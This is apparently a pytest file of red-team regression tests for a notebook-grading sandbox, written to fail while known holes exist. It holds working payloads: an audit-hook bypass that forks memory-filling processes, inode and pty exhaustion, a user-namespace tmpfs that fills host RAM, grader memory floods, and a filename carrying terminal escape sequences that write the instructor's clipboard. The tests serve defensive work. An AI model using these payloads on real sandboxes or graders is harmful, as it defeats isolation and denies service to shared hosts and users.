"""Red-team reproducers (default bubblewrap mode): each test asserts the secure behaviour and FAILS while the hole exists.

Every probe runs a real bubblewrap kernel through test_sandbox_isolation.probe; the first one keeps the
Python audit hook ON (the full attack as a student would send it).
"""

from __future__ import annotations

import os
import shutil
import tempfile
from pathlib import Path

import pytest

from distlab.grading.kernel import bwrap_available, run_in_kernel

pytestmark = [
    pytest.mark.notebook,
    pytest.mark.skipif(not bwrap_available(), reason="bubblewrap (apt-get install bubblewrap) is not here"),
]


def probe(code: str, *, audit_hook: bool = True, memory_limit: int = 8 * 2**30, timeout: float = 120) -> dict:
    """Run `code` in one bubblewrap kernel (as test_sandbox_isolation.probe, with a memory limit of choice)."""
    base = Path(tempfile.mkdtemp(prefix="distlab-redteam-"))
    (base / "submission.ipynb").write_text("{}")
    problems: list[str] = []
    try:
        snapshot = run_in_kernel(
            [code],
            base / "work",
            answer_names=["answer_x"],
            timeout=timeout,
            cell_timeout=timeout,
            sandbox="bwrap",
            memory_limit=memory_limit,
            file_size_limit=64 * 2**20,
            problems=problems,
            audit_hook=audit_hook,
            process_limit=256,
        )
    finally:
        shutil.rmtree(base, ignore_errors=True)
    found = (snapshot or {}).get("answer_x")
    assert isinstance(found, dict), (found, problems)
    return {"problems": problems, **found}


# _imp.create_dynamic under another name ("zz._posixsubprocess") raises an "import" event the hook does not
# refuse and yields a fresh fork_exec; each child execs a fresh python (its own RLIMIT_AS) and touches 400 MiB
FORK_AND_FILL = r"""
import sys, os, _imp, importlib.util, select
answer_x = {"kids": 0, "total_rss": 0}
try:
    spec = importlib.util.spec_from_file_location("zz._posixsubprocess", sys.modules["_posixsubprocess"].__file__)
    fork_exec = _imp.create_dynamic(spec).fork_exec
    r, w = os.pipe()
    code = ("import os,time\nb=bytearray(400*2**20)\nfor i in range(0,len(b),4096): b[i]=1\n"
            "os.write(%d, b'x')\ntime.sleep(60)\n" % w)
    kids = []
    for _ in range(3):
        er, ew = os.pipe()
        kids.append(fork_exec([sys.executable.encode(), b"-c", code.encode()], [sys.executable.encode()], False,
                              (w,), None, None, -1, -1, -1, -1, -1, -1, er, ew, False, False, -1, None, None,
                              -1, -1, None, False))
    os.close(w)  # the kids hold the only write ends: a kid killed before it wrote cannot keep the read waiting
    got, gone = 0, set()
    while got + len(gone) < 3:  # each kid has touched its 400 MiB, or is gone
        if select.select([r], [], [], 0.1)[0]:
            got += len(os.read(r, 10))
        gone |= {p for p in kids if p not in gone and os.waitpid(p, os.WNOHANG)[0]}
    def rss(pid):  # a kid that is gone holds nothing
        try:
            for line in open(f"/proc/{pid}/status"):
                if line.startswith("VmRSS"):
                    return int(line.split()[1]) * 1024
        except FileNotFoundError:
            pass
        return 0
    answer_x = {"kids": len(kids), "gone": len(gone),
                "total_rss": sum(rss(p) for p in [*kids, os.getpid()])}
except BaseException as exc:
    answer_x["error"] = repr(exc)[:300]
"""


def test_redteam_processes_escape_the_memory_limit_even_with_the_audit_hook():
    """RLIMIT_AS is per process: a notebook that starts processes (the hook's ban on fork is bypassed by
    re-creating _posixsubprocess under another name) holds N x memory_limit. Here 1 GiB -> ~1.4 GB resident."""
    limit = 2**30
    found = probe(FORK_AND_FILL, audit_hook=True, memory_limit=limit)
    assert found["total_rss"] <= limit, found


# empty files use no tmpfs block: the 256 MB quota never counts them, but each costs ~1 KB of kernel memory
# (inode + dentry); tmpfs's default nr_inodes is half the host's RAM pages (3 million here: ~3.7 GB)
SMALL_FILES = r"""
import os
os.mkdir("/tmp/work/f")
n, err = 0, None
try:
    while n < 70_000:
        os.close(os.open("/tmp/work/f/" + "a" * 200 + str(n), os.O_CREAT | os.O_WRONLY, 0o600))
        n += 1
except OSError as exc:
    err = repr(exc)
st = os.statvfs("/tmp")
answer_x = {"files": n, "err": err, "inodes": st.f_files, "blocks": st.f_blocks * st.f_frsize}
"""


def test_redteam_empty_files_escape_the_disk_quota_as_kernel_memory():
    found = probe(SMALL_FILES, audit_hook=True)
    # as many files as 4 KiB pages fit in the quota is already generous; 70,000 200-character names is past it
    assert found["files"] < found["blocks"] // 4096, found


PTYS = r"""
import os
answer_x = {}
try:
    master, slave = os.openpty()  # libc openpty(): /dev/ptmx opened without an audit event
    answer_x["pty"] = "opened"
    answer_x["host_ptys_in_use"] = open("/proc/sys/kernel/pty/nr").read().strip()
except OSError as exc:
    answer_x["pty"] = exc.strerror
"""


def test_redteam_kernel_cannot_take_host_ptys():
    """/dev/ptmx is a new devpts instance, but kernel.pty.nr is host-wide: a kernel with 20,000 descriptors can
    take every pty above the 1,024 reserved for the host's first instance (pty.max 4,096), so other containers and
    sandboxes on the machine get none while it runs. Grading needs no terminal."""
    found = probe(PTYS, audit_hook=True)
    assert found["pty"] != "opened", found


def _spawn_helper(helper: str) -> str:
    """Kernel code: start a fresh python (no audit hook) on `helper` via a re-created fork_exec; answer_x = its JSON."""
    return (
        "import sys, os, _imp, importlib.util, json\n"
        "spec = importlib.util.spec_from_file_location('zz._posixsubprocess', sys.modules['_posixsubprocess'].__file__)\n"
        "fork_exec = _imp.create_dynamic(spec).fork_exec\n"
        "r, w = os.pipe()\n"
        "er, ew = os.pipe()\n"
        f"fork_exec([sys.executable.encode(), b'-c', {helper!r}.encode(), str(w).encode()], [sys.executable.encode()],"
        " False, (w,), None, None, -1, -1, -1, -1, -1, -1, er, ew, False, False, -1, None, None, -1, -1, None, False)\n"
        "os.close(w)\n"
        "data = b''\n"
        "while True:\n"
        "    c = os.read(r, 65536)\n"
        "    if not c:\n"
        "        break\n"
        "    data += c\n"
        "answer_x = json.loads(data or b'{}')\n"
    )


# a child makes a user + mount namespace (the parent writes its uid/gid maps), mounts a tmpfs of its own and fills it
USERNS_TMPFS = r"""
import ctypes, os, json, sys
W = int(sys.argv[1])
a = {}
c2p_r, c2p_w = os.pipe(); p2c_r, p2c_w = os.pipe(); res_r, res_w = os.pipe()
pid = os.fork()
if pid == 0:
    b = {"written_MB": 0}
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        b["unshare"] = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
        os.write(c2p_w, b"U"); os.read(p2c_r, 1)
        os.makedirs("/tmp/work/m", exist_ok=True)
        b["mount"] = libc.mount(b"none", b"/tmp/work/m", b"tmpfs", 0, b"size=2g")
        chunk = b"x" * 2**20
        for k in range(8):
            with open("/tmp/work/m/big%d" % k, "wb") as f:
                for n in range(50):
                    f.write(chunk)
                b["written_MB"] += f.tell() // 2**20
    except BaseException as e:
        b["err"] = repr(e)
    os.write(res_w, json.dumps(b).encode()); os._exit(0)
os.read(c2p_r, 1)
for f, v in (("setgroups", "deny"), ("uid_map", "0 %d 1" % os.getuid()), ("gid_map", "0 %d 1" % os.getgid())):
    try:
        fd = os.open("/proc/%d/%s" % (pid, f), os.O_WRONLY); os.write(fd, v.encode()); os.close(fd)
    except OSError as e:
        a[f] = repr(e)
os.write(p2c_w, b"G"); os.close(res_w)
data = b""
while True:
    c = os.read(res_r, 65536)
    if not c:
        break
    data += c
a.update(json.loads(data or b"{}"))
os.write(W, json.dumps(a).encode())
"""


def test_redteam_a_user_namespace_tmpfs_escapes_the_disk_quota():
    """The kernel may create user namespaces: 'root' there, it mounts a tmpfs of any size and fills the host's RAM
    past the 256 MB quota and RLIMIT_AS (400 MB written here; size=2g accepted)."""
    found = probe(_spawn_helper(USERNS_TMPFS), audit_hook=True)
    assert found.get("unshare") != 0 and found.get("written_MB", 0) <= 256, found


GRADER_RSS = r"""
import resource, shutil, sys, tempfile
from pathlib import Path
from distlab.grading.kernel import run_in_kernel
base = Path(tempfile.mkdtemp(prefix="distlab-redteam-"))
(base / "submission.ipynb").write_text("{}")
try:
    run_in_kernel([sys.argv[1]], base / "work", answer_names=["answer_x"], timeout=120, cell_timeout=120,
                  sandbox="bwrap", memory_limit=8 * 2**30, file_size_limit=64 * 2**20, problems=[], process_limit=256)
finally:
    shutil.rmtree(base, ignore_errors=True)
# VmHWM (kB), this process's own peak: ru_maxrss would also count the pytest worker it was forked from
print(int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0]) // 1024)
"""

# each iopub message stays under the 8 MB zmq limit, but 7.6 MB of "{}, " is 1.9 million dicts once jupyter_client
# has parsed it in the grader (about 50 bytes of grader memory per byte sent); non-stream messages are then dropped
DICT_FLOOD = r"""
k = get_ipython().kernel
big = [{}] * 1_900_000
for i in range(10):
    k.session.send(k.iopub_socket, "display_data", {"data": {"text/plain": big}, "metadata": {}, "transient": {}},
                   parent=k.get_parent("shell"))
answer_x = 1
"""


def _grader_peak(code: str) -> int:
    """The peak memory (MiB) of a grader process that runs `code` in one bubblewrap kernel (GRADER_RSS)."""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", GRADER_RSS, code], capture_output=True, text=True, timeout=300)
    return int(done.stdout.split()[-1])


@pytest.fixture(scope="module")
def quiet_grader_peak() -> int:
    """The grader's peak (MiB) on a notebook that sends nothing: the baseline both flood tests compare with
    (measured once; each flood runs in its own grader process)."""
    return _grader_peak("answer_x = 1")


def test_redteam_small_iopub_messages_do_not_balloon_the_grader(quiet_grader_peak):
    quiet, loud = quiet_grader_peak, _grader_peak(DICT_FLOOD)
    assert loud - quiet < 100, (quiet, loud)  # MiB


def test_redteam_a_file_name_that_is_not_utf8_does_not_stop_the_class(tmp_path):
    """A student's upload named b'\\xff\\xfe.ipynb' (a Gradescope export keeps the name) makes results.csv unwritable
    (UnicodeEncodeError on the surrogates): the run crashes, and every re-run crashes again on the journal's row."""
    import subprocess
    import sys

    sub = tmp_path / "sub"
    (sub / "s1").mkdir(parents=True)
    (sub / "s2").mkdir()
    with open(bytes(sub / "s1") + b"/\xff\xfe.ipynb", "wb") as f:
        f.write(b'{"cells": [], "metadata": {}}')
    (sub / "s2" / "01_memory_wall.ipynb").write_text('{"cells": [], "metadata": {}}')
    out = tmp_path / "grades"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "distlab",
            "grade",
            str(sub),
            "--lesson",
            "memory_wall",
            "--out",
            str(out),
            "--timeout",
            "60",
        ],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0 and (out / "results.csv").is_file(), done.stderr[-600:]


# nbclient mimics a front end: a comm_open for an Output widget is kept (with its whole state) in comm_objects until
# the notebook ends; GradingClient overrides output() but not handle_comm_msg. 40 x 7 MB messages keep ~300 MB in
# the grader; a notebook's 300 s send ~1,200 of them (8 GB), and a state of "{}, " keeps ~370 MB per message
COMM_FLOOD = r"""
import uuid
k = get_ipython().kernel
pad = "x" * (7 * 2**20)
for i in range(40):
    state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "outputs": [], "pad": pad}
    k.session.send(k.iopub_socket, "comm_open", {"comm_id": uuid.uuid4().hex, "target_name": "jupyter.widget",
                   "data": {"state": state, "buffer_paths": []}}, parent=k.get_parent("shell"))
answer_x = 1
"""


def test_redteam_widget_comm_messages_are_not_kept_by_the_grader(quiet_grader_peak):
    quiet, loud = quiet_grader_peak, _grader_peak(COMM_FLOOD)
    assert loud - quiet < 100, (quiet, loud)  # MiB


def test_redteam_a_file_name_cannot_write_terminal_escapes_into_the_progress_bar(tmp_path):
    """Progress.update prints the last 40 characters of the notebook's key raw: a name holding ESC sequences
    clears the instructor's screen, forges progress lines, or (OSC 52) writes the instructor's clipboard."""
    import io

    from distlab.grading import classroom

    sub = tmp_path / "sub" / "s1"
    sub.mkdir(parents=True)
    name = "\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07.ipynb"
    (sub / name).write_text('{"cells": [], "metadata": {}}')
    stream = io.StringIO()
    classroom.grade_class([tmp_path / "sub"], tmp_path / "grades", stream=stream, lesson="memory_wall")
    assert "\x1b[2J" not in stream.getvalue() and "\x1b]52" not in stream.getvalue(), repr(stream.getvalue())


BASE_SITE = r"""
import os, site, sys
answer_x = {"listing": sorted(os.listdir(p))[:5] for p in site.getsitepackages([sys.base_prefix]) if os.path.isdir(p)}
"""


def test_the_runtimes_own_site_packages_are_empty_in_the_kernel():
    """The runtime (sys.base_prefix) is bound whole, so its own site-packages were readable: a distlab installed
    there (pip install distlab, then a venv for grading) is the answer key. Only the environment's packages count."""
    import site
    import sys

    ours = {os.path.realpath(p) for p in site.getsitepackages()}
    base = [os.path.realpath(p) for p in site.getsitepackages([sys.base_prefix]) if os.path.isdir(p)]
    if not base or set(base) <= ours:
        pytest.skip("this environment uses the runtime's own site-packages")
    found = probe(BASE_SITE, audit_hook=True)
    assert found.get("listing", []) == [], found
